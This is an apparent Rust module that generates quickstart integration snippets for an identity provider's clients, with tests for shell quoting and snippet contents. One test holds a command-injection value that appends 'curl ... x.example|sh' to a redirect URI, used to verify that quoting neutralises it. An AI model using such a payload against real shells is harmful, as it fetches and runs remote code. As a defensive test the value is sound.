//! The code of `docs/quickstart`, with the application's own values in it: the very files that the tests run, or the blocks of
//! the page that says it was not run.

use super::views::{Client, ClientKind, Part};

const NODE: &str = include_str!("../../../../end2end/apps/node/server.mjs");
const PYTHON: &str = include_str!("../../../../end2end/apps/python/app.py");
const APACHE: &str = include_str!("../../../../end2end/apps/apache/notes.conf");
const SPA: &str = include_str!("../../../../docs/examples/spa.html");
const REACT: &str = include_str!("../../../../docs/examples/spa.jsx");
const CLI: &str = include_str!("../../../../end2end/apps/cli/login.mjs");
const NEXT_JS_PAGE: &str = include_str!("../../../../docs/quickstart/nextjs.md");
const GO_PAGE: &str = include_str!("../../../../docs/quickstart/go.md");
const ASP_NET_PAGE: &str = include_str!("../../../../docs/quickstart/aspnet.md");
const SPRING_PAGE: &str = include_str!("../../../../docs/quickstart/spring.md");
const CURL: &str =
    "curl --user \"$CLIENT_ID:$CLIENT_SECRET\" --data grant_type=client_credentials \"$ISSUER/oauth/token\"\n";

/// What an application is built with.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Way {
    Node,
    NextJs,
    Python,
    Go,
    AspNet,
    Spring,
    Apache,
    JavaScript,
    React,
    Cli,
    Curl,
}

impl Way {
    /// The first is shown where nobody has chosen.
    pub const fn all_of(kind: ClientKind) -> &'static [Self] {
        match kind {
            ClientKind::Web => {
                &[Self::Node, Self::NextJs, Self::Python, Self::Go, Self::AspNet, Self::Spring, Self::Apache]
            }
            ClientKind::Spa => &[Self::JavaScript, Self::React],
            ClientKind::Native => &[Self::Cli],
            ClientKind::Machine => &[Self::Curl],
        }
    }

    /// The one that was asked for, if this kind of application has it.
    pub fn chosen(kind: ClientKind, word: &str) -> Self {
        let all = Self::all_of(kind);
        all.iter().copied().find(|way| way.as_str() == word).unwrap_or(all[0])
    }

    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Node => "node",
            Self::NextJs => "nextjs",
            Self::Python => "python",
            Self::Go => "go",
            Self::AspNet => "aspnet",
            Self::Spring => "spring",
            Self::Apache => "apache",
            Self::JavaScript => "javascript",
            Self::React => "react",
            Self::Cli => "cli",
            Self::Curl => "curl",
        }
    }

    /// The same in every language.
    pub const fn name(self) -> &'static str {
        match self {
            Self::Node | Self::Cli => "Node.js",
            Self::NextJs => "Next.js",
            Self::Python => "Python",
            Self::Go => "Go",
            Self::AspNet => "ASP.NET Core",
            Self::Spring => "Spring Boot",
            Self::Apache => "Apache",
            Self::JavaScript => "JavaScript",
            Self::React => "React",
            Self::Curl => "curl",
        }
    }

    /// Where its code comes back to, whatever the application says.
    pub const fn callback(self) -> Option<&'static str> {
        match self {
            Self::NextJs => Some("/api/auth/callback/latchkey"),
            Self::AspNet => Some("/signin-oidc"),
            Self::Spring => Some("/login/oauth2/code/latchkey"),
            Self::Node | Self::Python | Self::Go | Self::JavaScript | Self::React => Some("/callback"),
            Self::Apache | Self::Cli | Self::Curl => None,
        }
    }

    /// The page of the documentation that its code is from, where no test runs that.
    pub const fn unproved(self) -> Option<&'static str> {
        match self {
            Self::NextJs => Some("docs/quickstart/nextjs.md"),
            Self::Go => Some("docs/quickstart/go.md"),
            Self::AspNet => Some("docs/quickstart/aspnet.md"),
            Self::Spring => Some("docs/quickstart/spring.md"),
            Self::Node | Self::Python | Self::Apache | Self::JavaScript | Self::React | Self::Cli | Self::Curl => None,
        }
    }

    pub fn href(self, id: &str) -> String {
        format!("{}?code={}", Part::Integration.href(id), self.as_str())
    }
}

/// What it runs with, and the program.
pub struct Snippet {
    pub environment: Option<String>,
    pub files: Vec<File>,
}

pub struct File {
    /// Where it goes, if that matters.
    pub name: Option<&'static str>,
    pub code: String,
}

/// `secret` is there as long as it is shown.
pub fn of(client: &Client, way: Way, issuer: &str, secret: Option<&str>) -> Snippet {
    let uris = &client.redirect_uris;
    let fitting = uris.iter().find(|uri| way.callback().is_some_and(|path| uri.ends_with(path)));
    let redirect_uri = fitting.or(uris.first()).map_or("https://app.example.com/callback", |uri| uri);
    let (id, secret) = (&*client.id, secret.unwrap_or("…"));
    let environment = |lines: &[(&str, &str)]| {
        let lines: Vec<String> = lines.iter().map(|(name, value)| format!("{name}={}", quoted(value))).collect();
        Some(lines.join("\n"))
    };
    let values = [("ISSUER", issuer), ("CLIENT_ID", id), ("CLIENT_SECRET", secret), ("REDIRECT_URI", redirect_uri)];
    // As the documentation writes them.
    let filled = |code: &str| {
        let code = code.replace("https://login.example.com", issuer).replace("cli_my_app", id).replace("cli_…", id);
        code.replace("https://notes.example.com/callback", redirect_uri).replace("my-client-secret", secret)
    };
    let one = |code: &str| vec![File { name: None, code: filled(code) }];
    let blocks = |page, is_wanted: fn(&Block) -> bool| {
        let blocks = blocks(page).into_iter().filter(is_wanted);
        blocks.map(|block| File { name: block.file, code: filled(block.code) }).collect::<Vec<File>>()
    };
    let (environment, files) = match way {
        Way::Node => (environment(&[&values[..], &[("SESSION_SECRET", "…"), ("PORT", "3000")]].concat()), one(NODE)),
        Way::Python => (environment(&[&values[..], &[("SESSION_SECRET", "…")]].concat()), one(PYTHON)),
        Way::Go => (environment(&values), blocks(GO_PAGE, |block| block.language == "go")),
        // What comes after it on that page is for Express, and stands in a file of no name.
        Way::NextJs => (None, blocks(NEXT_JS_PAGE, |block| block.file.is_some())),
        Way::AspNet => (None, blocks(ASP_NET_PAGE, |block| block.language != "sh")),
        Way::Spring => (None, blocks(SPRING_PAGE, |block| block.language != "sh")),
        Way::Apache => (None, one(APACHE)),
        Way::JavaScript => (None, one(SPA)),
        Way::React => (None, one(REACT)),
        Way::Cli => (environment(&values[..2]), one(CLI)),
        Way::Curl => (environment(&values[..3]), one(CURL)),
    };
    Snippet { environment, files }
}

/// As a shell takes it for one word, and for nothing to do: a redirect URI may have `;`, `|` and `$` in it.
fn quoted(value: &str) -> String {
    let is_plain = |it: char| it.is_ascii_alphanumeric() || ":/._~%?=+-".contains(it);
    if value.chars().all(is_plain) { value.to_owned() } else { format!("'{}'", value.replace('\'', r"'\''")) }
}

/// Of a page of the documentation.
struct Block {
    language: &'static str,
    /// What the paragraph above it begins with, if that is the name of a file.
    file: Option<&'static str>,
    code: &'static str,
}

fn blocks(page: &'static str) -> Vec<Block> {
    // Text, block, text, block, and so on.
    let parts: Vec<&'static str> = page.split("\n```").collect();
    let block = |pair: &[&'static str]| {
        let [text, block] = *pair else { return None };
        let paragraph = text.trim_end().rsplit("\n\n").next()?;
        let file = paragraph.strip_prefix('`').and_then(|rest| rest.split_once('`')).map(|(file, _)| file);
        let (language, code) = block.split_once('\n')?;
        Some(Block { language, file, code })
    };
    parts.chunks(2).filter_map(block).collect()
}

#[cfg(test)]
mod tests {
    use latchkey_ui::text::Timestamp;

    use super::*;

    #[test]
    fn an_application_finds_its_own_values_in_its_code() {
        let now = Timestamp::from_millis(0);
        for kind in ClientKind::ALL {
            let client = Client::new("cli_own", "Own", *kind, now);
            for way in Way::all_of(*kind) {
                let Snippet { environment, files } = of(&client, *way, "https://id.example.org", Some("a secret"));
                assert!(!files.is_empty() && files.iter().all(|file| !file.code.trim().is_empty()), "{way:?}");
                let files: Vec<String> = files.into_iter().map(|file| file.code).collect();
                let all = format!("{}\n{}", environment.unwrap_or_default(), files.join("\n"));
                assert!(all.contains("https://id.example.org") && all.contains("cli_own"), "{all}");
                for example in ["login.example.com", "cli_my_app", "cli_…", "my-client-secret", "```"] {
                    assert!(!all.contains(example), "{example} in {all}");
                }
                let has_room = !matches!(way, Way::NextJs | Way::AspNet | Way::Spring);
                assert_eq!(all.contains("a secret"), has_room && !kind.is_public(), "{all}");
                assert_eq!(Way::chosen(*kind, way.as_str()), *way);
            }
            assert_eq!(Way::chosen(*kind, "nothing"), Way::all_of(*kind)[0]);
        }
    }

    #[test]
    fn nothing_in_a_redirect_uri_is_run_by_a_shell() {
        let mut client = Client::new("cli_own", "Own", ClientKind::Web, Timestamp::from_millis(0));
        for (uri, written) in [
            ("https://x.example/cb?a=b%20c", "https://x.example/cb?a=b%20c"),
            ("https://x.example/cb;curl${IFS}x.example|sh", "'https://x.example/cb;curl${IFS}x.example|sh'"),
            ("https://x.example/it's&sh", r"'https://x.example/it'\''s&sh'"),
        ] {
            client.redirect_uris = vec![uri.into()];
            let lines = of(&client, Way::Node, "https://id.example.org", None).environment.unwrap();
            assert!(lines.lines().any(|line| line == format!("REDIRECT_URI={written}")), "{lines}");
        }
    }

    #[test]
    fn the_address_that_the_code_comes_back_to_is_taken_where_there_is_one() {
        let mut client = Client::new("cli_own", "Own", ClientKind::Web, Timestamp::from_millis(0));
        client.redirect_uris = ["https://x.example/other", "https://x.example/callback"].map(str::to_owned).to_vec();
        for (way, written) in [(Way::Go, "/callback"), (Way::Apache, "/other")] {
            let Snippet { environment, files } = of(&client, way, "https://id.example.org", None);
            let all = environment.into_iter().chain(files.into_iter().map(|file| file.code)).collect::<String>();
            assert!(all.contains(&format!("https://x.example{written}")), "{all}");
        }
    }

    #[test]
    fn what_no_test_runs_is_said_not_to_be_run() {
        let pages =
            [(Way::NextJs, NEXT_JS_PAGE), (Way::Go, GO_PAGE), (Way::AspNet, ASP_NET_PAGE), (Way::Spring, SPRING_PAGE)];
        for way in ClientKind::ALL.iter().flat_map(|kind| Way::all_of(*kind)) {
            // What is not a file of the tests is of a page.
            let page = pages.iter().find(|(it, _)| it == way).map(|(_, page)| page.replace('\n', " "));
            assert_eq!(way.unproved().is_some(), page.is_some(), "{way:?}");
            let is_said = |page: String| page.contains("not run here") || page.contains("no test holds it");
            assert!(page.is_none_or(is_said), "{way:?}");
        }
    }

    #[test]
    fn a_block_is_called_as_the_paragraph_above_it_says() {
        let names = |page| blocks(page).into_iter().filter_map(|block| block.file).collect::<Vec<_>>();
        let next_js = ["auth.ts", "app/api/auth/[...nextauth]/route.ts", "app/page.tsx", ".env.local"];
        assert_eq!(names(NEXT_JS_PAGE), next_js);
        assert_eq!(names(ASP_NET_PAGE), ["Program.cs", "appsettings.json"]);
        assert_eq!(names(SPRING_PAGE), ["application.yml", "SecurityConfiguration.java", "Home.java"]);
    }
}
